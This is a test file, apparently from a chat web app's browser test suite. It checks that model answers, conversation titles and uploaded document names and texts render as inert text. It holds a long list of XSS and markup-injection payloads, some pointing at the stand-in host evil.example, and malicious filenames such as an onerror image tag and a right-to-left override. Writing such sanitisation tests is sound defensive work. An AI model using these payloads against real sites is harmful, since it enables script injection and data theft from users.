// Markup where text is expected: in a model's answers, questions, titles, names and texts of documents. Nothing is loaded
// from elsewhere, no script runs, no dialog opens, nothing leads away. The house's own watch (browser.mjs) fails on any
// request to another origin and on any error in the console, a violated Content-Security-Policy among them.
import test from 'node:test';
import assert from 'node:assert/strict';
import { jobsEnd, shot } from './browser.mjs';
import { askOnPage, composer, MILAN, startTalk } from './chat_talk.mjs';

const EVIL = 'https://evil.example';
const PAYLOADS = [
	'<script>window.hit=1</script>',
	'<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
	'<img src=x onerror="window.hit=1">',
	'<img src="https://evil.example/a.png">',
	'<img/src="x"/onerror=window.hit=1>',
	'<svg onload="window.hit=1">',
	'<svg><script>window.hit=1</script></svg>',
	'<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
	'<iframe src="https://evil.example"></iframe>',
	'<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
	'<object data="https://evil.example/x.swf"></object>',
	'<embed src="https://evil.example/x">',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/b)}</style>',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<form action="https://evil.example"><button>go</button></form>',
	'<input autofocus onfocus=window.hit=1>',
	'<details open ontoggle=window.hit=1>',
	'<video><source onerror="window.hit=1"></video>',
	'<audio src="https://evil.example/a.mp3" autoplay></audio>',
	'<body onload=window.hit=1>',
	'<div style="background:url(https://evil.example/b)">x</div>',
	'<a href="javascript:window.hit=1">click</a>',
	'<template><img src=x onerror=window.hit=1></template>',
	'<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
	'![a](https://evil.example/a.png)',
	'![a](https://evil.example/a.png "onerror=window.hit=1")',
	'![a][1]\n\n[1]: https://evil.example/a.png',
	'[click](https://evil.example/p)',
	'[click](javascript:window.hit=1)',
	'[click](JaVaScRiPt&colon;window.hit=1)',
	'[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[click](vbscript:msgbox)',
	'[click](<javascript:window.hit=1>)',
	'[a](https://evil.example" onmouseover="window.hit=1)',
	'<javascript:window.hit=1>',
	'<https://evil.example/auto>',
	'https://evil.example/plain',
	'[x](//evil.example/protocol-relative)',
	'```html\n<script>window.hit=1</script>\n```',
	'```"><img src=x onerror=window.hit=1>\nx\n```',
	'`<img src=x onerror=window.hit=1>`',
	'| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | 2 |',
	'$<img src=x onerror=window.hit=1>$ and \\(</span><script>window.hit=1</script>\\)',
	'[\u20631:1]<img src=x onerror=window.hit=1>[\u2063"onclick=window.hit=1:1]',
	'[1"><img src=x onerror=window.hit=1>]',
	'&lt;script&gt;window.hit=1&lt;/script&gt;',
	'&#60;img src=x onerror=window.hit=1&#62;',
	'\u202Egnp.x onerror\u202C <b\u0000>x</b>',
	'**<img src=x onerror=window.hit=1',
	'<a id=app><a id=app name=body>',
	'<form id=document><input name=cookie>',
	'{{constructor.constructor("window.hit=1")()}} ${window.hit=1}',
	`${'<b>'.repeat(3000)}deep`,
	`${'>'.repeat(300)} deep ${'['.repeat(2000)}`,
	'x'.repeat(20000),
];
let answer = '';
let house;
test.before(async () => {
	house = await startTalk(async (say) => {
		for (const part of answer.match(/[^]{1,400}/gu)) {
			await say(part, 1);
		}
	});
});
test.after(() => house.stop());

async function watch(page) {
	const dialogs = [];
	page.on('dialog', (d) => (dialogs.push(d.message()), d.dismiss()));
	page.on('popup', (p) => dialogs.push(`popup ${p.url()}`));
	return async () => {
		assert.equal(await page.evaluate(() => window.hit), undefined, 'no script ran');
		assert.deepEqual(dialogs, []);
		const wrong = await page.evaluate((evil) => {
			const all = [...document.querySelectorAll('#app *')];
			const bad = all.filter((x) => ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'LINK', 'STYLE', 'BASE', 'META', 'AUDIO', 'VIDEO'].includes(x.tagName) ||
				x.getAttributeNames().some((n) => n.startsWith('on')) || (x.closest('.md, h2') && ['IMG', 'A', 'FORM', 'INPUT', 'SVG'].includes(x.tagName)) ||
				[x.getAttribute('src'), x.getAttribute('href'), x.getAttribute('action')].some((v) => v && (v.startsWith(evil) || /^(javascript|data|vbscript):/i.test(v))));
			return bad.map((x) => x.outerHTML.slice(0, 200));
		}, EVIL);
		assert.deepEqual(wrong, []);
	};
}

test(`${PAYLOADS.length} answers of a model`, async () => {
	assert.ok(PAYLOADS.length >= 40);
	const page = await house.open('ann');
	const clean = await watch(page);
	for (let i = 0; i < PAYLOADS.length; i += 6) {
		answer = `${PAYLOADS.slice(i, i + 6).join('\n\n')}\n\nEnd [1].`;
		await askOnPage(page, `${MILAN} ${i}`);
		await clean();
	}
	// one alone, each half open for a while, is what comes while it streams
	await page.reload();
	await page.locator('.turn .md').last().waitFor();
	await clean();
	await shot(page, 'xss-answers');
	// whatever looks like a link or a button of theirs does nothing
	for (const button of await page.locator('.md button:not(.cite):not(.copy-code)').all()) {
		assert.fail(await button.textContent());
	}
});

test('questions, drafts and titles', async () => {
	const page = await house.open('ben');
	const clean = await watch(page);
	answer = 'Said.';
	for (const p of PAYLOADS.filter((x) => x.length < 150 && !x.includes('\u0000')).slice(0, 24)) {
		const made = await house.ben.post('/v1/conversations', { title: p });
		assert.equal(made.status, 201, made.text);
	}
	await page.reload();
	await page.locator('.history li').nth(20).waitFor();
	await clean();
	await composer(page).fill(PAYLOADS.slice(0, 30).join('\n'));
	await composer(page).press('Enter', { noWaitAfter: true });
	await page.locator('.answer-foot').waitFor();
	assert.match(await page.locator('.question h2').textContent(), /<script>window\.hit=1<\/script>/);
	await clean();
	await shot(page, 'xss-titles');
});

test('names and texts of documents', async () => {
	const names = ['<img src=x onerror=window.hit=1>.md', '"><script>window.hit=1<／script>.md', `${'long '.repeat(40)}.md`, '\u202Efdp.exe.md'];
	for (const [i, name] of names.entries()) {
		const text = `# <script>window.hit=1</script> Quokka ${i}\n\nThe quokka number ${i} costs ${400 + i} EUR <img src=x onerror=window.hit=1> [click](javascript:window.hit=1) and ![p](https://evil.example/q.png) weighs.\n`;
		await house.ann.upload('Handbook', name, text);
	}
	await jobsEnd(house.ann);
	const page = await house.open('ann');
	const clean = await watch(page);
	house.model.mode = 'broken'; // the answer is of the documents' own sentences
	for (let i = 0; i < names.length; i++) {
		await askOnPage(page, `What does the quokka number ${i} cost?`);
		await clean();
	}
	const chip = page.locator('.cite').last();
	await chip.hover();
	await page.locator('.cite-card').waitFor();
	await clean();
	await chip.click();
	await page.locator('.source').waitFor();
	await page.locator('.source').getByText(/Quokka/).first().waitFor();
	await clean();
	await shot(page, 'xss-documents');
});
